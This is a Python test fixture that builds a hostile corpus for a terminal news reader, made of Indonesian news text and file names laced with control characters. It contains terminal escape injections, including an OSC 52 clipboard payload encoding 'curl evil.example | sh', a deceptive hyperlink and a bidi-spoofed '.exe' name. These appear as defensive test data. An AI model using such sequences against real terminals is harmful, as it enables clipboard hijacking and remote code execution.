"""A corpus an attacker (or bad luck) wrote: escapes, controls and bidi overrides in text and
file names, undecodable names, one name in two folders, odd encodings and line ends.

Shared by the CLI and reader tests of tests/test_hostile_inputs.py and
tests/ui/test_hostile_views.py.
"""

from __future__ import annotations

import base64
import os
import re
from pathlib import Path

# What a terminal would act on: C0 and C1 controls, DEL, bidi controls, line separators.
CONTROL = re.compile(
    "[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
CLIPBOARD_PAYLOAD = base64.b64encode(b"curl evil.example | sh").decode()
# Set the clipboard (OSC 52), clear the screen and scrollback, retitle the window.
ATTACK_LINE = f"\x1b]52;c;{CLIPBOARD_PAYLOAD}\x07\x1b[2J\x1b[3J\x1b]0;PWNED\x07"

BODY = [
    "JAKARTA - Presiden Joko Widodo mengatakan pemerintah akan terus bekerja keras untuk "
    "menurunkan harga beras di seluruh Indonesia pada tahun ini.",
    "Menurut Menteri Perdagangan Zulkifli Hasan, stok beras nasional cukup untuk enam "
    "bulan ke depan dan distribusi akan dipercepat ke daerah terpencil.",
    '"Kami akan memastikan harga beras kembali normal dalam waktu dekat," kata Zulkifli '
    "Hasan kepada wartawan di Istana Negara, Jakarta, Senin.",
]


def escapes_article(nul: bool = True) -> str:
    """Escapes in the title, byline, body, a caption, and lines made of nothing else."""
    return "\n".join(
        [
            "Harga \x1b[31mBeras\x1b[0m Naik Lagi di Pasar \x1b]0;TITLE\x07Jakarta Pekan Ini",
            ATTACK_LINE,
            "Penulis: Budi \x1b]52;c;" + CLIPBOARD_PAYLOAD + "\x07Santoso",
            "",
            BODY[0].replace("terus", "\u202eterus\u202c").replace("harga", "\x9b2Jharga"),
            "",
            "Foto: \x1bP+q544e\x1b\\ANTARA/\x1b[5mAditya\x1b[0m",
            BODY[1].replace("stok", "\x1b[?1049hstok\x1b[?25l"),
            "",
            BODY[2].replace("normal", "nor\x00mal\x7f" if nul else "normal\x7f"),
            "\x1b[?1049h\x1b[?25l\x1b[?1000h",
            "\u2066\u2067\u2068\u2069\u202a\u202b\u202d",
            "Baca juga: \x1b]8;;http://evil.example\x07Klik di sini\x1b]8;;\x07",
        ]
    )


def plain_article(title: str, body: list[str] = BODY) -> str:
    return "\n\n".join([title, *body]) + "\n"


# Names (without .txt) a file system accepts and a terminal would obey.
HOSTILE_NAMES = {
    "escape": "judul\x1b]0;NAME\x07\x1b[2J",
    "newline": "baris\nbaru",
    "tab": "kolom\tdua",
    "carriage return": "awal\rtimpa",
    "bidi override": "berita\u202etxt.exe",
    "C1 control": "c1\u009b2J",
}
UNDECODABLE_NAME = b"caf\xe9-latin1"  # Latin-1 bytes: not UTF-8


def write_hostile_corpus(root: Path, every_case: bool = True) -> Path:
    """Every hostile case in one folder tree; returns the folder.

    Without `every_case`, no undecodable name, no name in two folders and no NUL byte: code
    that fails on those can still be measured on the others (benchmarks/hostile_cases.py).
    """
    corpus = root / "hostile"
    corpus.mkdir()
    (corpus / "escapes.txt").write_text(escapes_article(nul=every_case), encoding="utf-8")
    for case, name in HOSTILE_NAMES.items():
        (corpus / f"{name}.txt").write_text(
            plain_article(f"Berita dengan nama berkas {case} yang aneh sekali"), encoding="utf-8"
        )
    if every_case:
        raw = os.path.join(os.fsencode(corpus), UNDECODABLE_NAME + b".txt")
        with open(raw, "wb") as handle:
            handle.write(plain_article("Berita dengan nama berkas Latin-1 yang aneh").encode())
    # A binary file whose name is an escape sequence: its problem line names it.
    (corpus / "\x1b]0;BINARY\x07.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\xff")
    for outlet in ("okezone", "antara") if every_case else ():
        (corpus / outlet).mkdir()
        (corpus / outlet / "0001.txt").write_text(
            plain_article(f"Harga beras naik kata {outlet.title()} dalam laporan hari ini"),
            encoding="utf-8",
        )
    return corpus


def reader_bytes(
    folder: Path, keys: list[str], root: Path, quiet: float = 1.0, shown: bytes | None = None
) -> bytes:
    """Everything the real reader writes to a pseudo-terminal, opened on `folder`, while
    `keys` are typed (each after the screen has been quiet for `quiet` seconds; the first
    also after `shown` has been drawn, so a busy machine cannot type into an empty list)."""
    import fcntl
    import pty
    import select
    import signal
    import struct
    import sys
    import termios
    import time

    pid, fd = pty.fork()
    if pid == 0:  # the child: the reader, as over SSH
        fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 120, 0, 0))
        env = dict(os.environ, TERM="xterm-256color", PYTHONPATH=str(root), KABAR_NO_CACHE="1")
        os.chdir(root)
        command = [sys.executable, "-m", "kabar_tui", "--no-animation", str(folder)]
        os.execvpe(sys.executable, command, env)
    written = bytearray()

    def read_until_quiet(limit: float, wanted: bytes | None = None) -> None:
        start = last = time.monotonic()
        while (
            time.monotonic() - last < quiet or (wanted is not None and wanted not in written)
        ) and time.monotonic() - start < limit:
            ready, _, _ = select.select([fd], [], [], quiet)
            if ready:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    return
                if not chunk:
                    return
                written.extend(chunk)
                last = time.monotonic()

    try:
        read_until_quiet(120, shown)
        for key in keys:
            os.write(fd, key.encode())
            read_until_quiet(30)
    finally:
        os.kill(pid, signal.SIGTERM)
        os.waitpid(pid, 0)
        os.close(fd)
    return bytes(written)
